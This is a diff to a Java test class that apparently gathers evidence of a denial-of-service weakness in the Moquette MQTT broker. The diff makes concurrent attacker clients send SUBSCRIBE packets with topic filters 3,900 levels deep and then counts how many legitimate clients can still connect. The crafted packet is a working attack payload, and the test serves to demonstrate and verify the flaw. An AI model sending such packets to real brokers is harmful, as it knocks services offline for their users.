@@ -5,7 +5,14 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.stagebus.benchmarks.server.Moquette.Client;
 import java.io.IOException;
 import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
 import java.util.Optional;
+import java.util.concurrent.Callable;
+import java.util.concurrent.ExecutionException;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.Future;
 import java.util.concurrent.TimeUnit;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.Timeout;
@@ -76,22 +83,37 @@ class MoquetteEvidence {
     }
 
     @Test
-    void deepFiltersLockEverybodyOut() throws IOException, InterruptedException {
+    void deepFiltersLockEverybodyOut() throws Exception {
         try (Moquette broker = Moquette.start(folder)) {
             assertThat(cameIn(broker)).isEqualTo(4);
-            for (int i = 0; i < ATTACKS; i++) {
-                Optional<Client> client = broker.connect("deep" + i);
-                if (client.isPresent()) {
-                    client.get().packet(0x82, "0001 1e78" + "612f".repeat(3_900) + "00");
-                    client.get().answer();
-                    client.get().close();
-                }
-            }
+            subscribeDeeply(broker);
             int left = cameIn(broker);
             say(
                     "SUBSCRIBEs of 3,900 levels, from who has credentials, leave " + left
                             + " of 4 clients that come in",
                     left == 0);
+        }
+    }
+
+    /** All attackers at once: once everybody is locked out each of them waits in vain for an answer. */
+    private static void subscribeDeeply(Moquette broker) throws InterruptedException, ExecutionException {
+        try (ExecutorService attackers = Executors.newVirtualThreadPerTaskExecutor()) {
+            List<Callable<Void>> attacks = new ArrayList<>();
+            for (int i = 0; i < ATTACKS; i++) {
+                String clientId = "deep" + i;
+                attacks.add(() -> {
+                    Optional<Client> client = broker.connect(clientId);
+                    if (client.isPresent()) {
+                        client.get().packet(0x82, "0001 1e78" + "612f".repeat(3_900) + "00");
+                        client.get().answer();
+                        client.get().close();
+                    }
+                    return null;
+                });
+            }
+            for (Future<Void> attack : attackers.invokeAll(attacks)) {
+                attack.get();
+            }
         }
     }
 
